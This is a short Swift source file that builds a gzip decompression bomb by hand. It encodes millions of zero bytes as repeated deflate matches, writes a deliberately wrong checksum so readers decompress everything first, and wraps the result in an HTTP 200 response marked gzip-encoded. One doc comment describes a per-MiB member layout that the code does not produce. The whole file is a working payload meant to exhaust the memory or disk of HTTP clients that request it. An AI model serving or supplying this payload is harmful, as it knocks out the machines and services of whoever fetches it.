/// Just enough of gzip to make a bomb: deflate by hand, so that no package is needed for it.
enum Gzip {
    /// This many MiB of zero bytes, each MiB in a member of its own of about a kilobyte.
    static func zeros(megabytes: Int) -> [UInt8] {
        // Distance-1 matches of length 258 with the fixed Huffman codes: one literal 0, then matches.
        var bits = BitWriter()
        bits.write(1, count: 1)
        bits.write(1, count: 2)
        bits.writeCode(0x30, count: 8)
        let matches = (megabytes << 20) / 258
        for _ in 0..<matches {
            bits.writeCode(0b1100_0101, count: 8)
            bits.writeCode(0, count: 5)
        }
        bits.writeCode(0, count: 7)
        let header: [UInt8] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]
        // The checksum is wrong on purpose: a reader that gets that far has already taken it all.
        return header + bits.finished() + [UInt8](repeating: 0, count: 8)
    }

    private struct BitWriter {
        private var bytes: [UInt8] = []
        private var pending: UInt32 = 0
        private var count: UInt32 = 0

        mutating func write(_ value: UInt32, count bits: UInt32) {
            pending |= value << count
            count += bits
            while count >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: pending))
                pending >>= 8
                count -= 8
            }
        }

        /// Huffman codes go in from their most significant bit on (RFC 1951, 3.1.1).
        mutating func writeCode(_ code: UInt32, count bits: UInt32) {
            for place in stride(from: bits, to: 0, by: -1) {
                write(code >> (place - 1) & 1, count: 1)
            }
        }

        mutating func finished() -> [UInt8] {
            if count > 0 { write(0, count: 8 - count) }
            return bytes
        }
    }
}

/// An answer of 200 with this gzip data.
func http(gzip: [UInt8]) -> [UInt8] {
    let head =
        "HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: \(gzip.count)\r\n\r\n"
    return Array(head.utf8) + gzip
}
